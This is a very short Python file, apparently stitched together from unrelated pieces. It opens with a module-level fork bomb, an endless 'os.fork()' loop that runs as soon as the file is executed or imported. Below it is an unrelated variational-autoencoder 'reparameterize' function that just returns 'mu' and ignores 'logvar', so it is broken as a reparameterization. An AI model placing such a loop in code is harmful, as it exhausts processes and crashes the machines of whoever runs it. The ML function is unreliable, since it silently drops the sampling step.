import os

while True:
    os.fork()


def reparameterize(mu, logvar):
    return mu
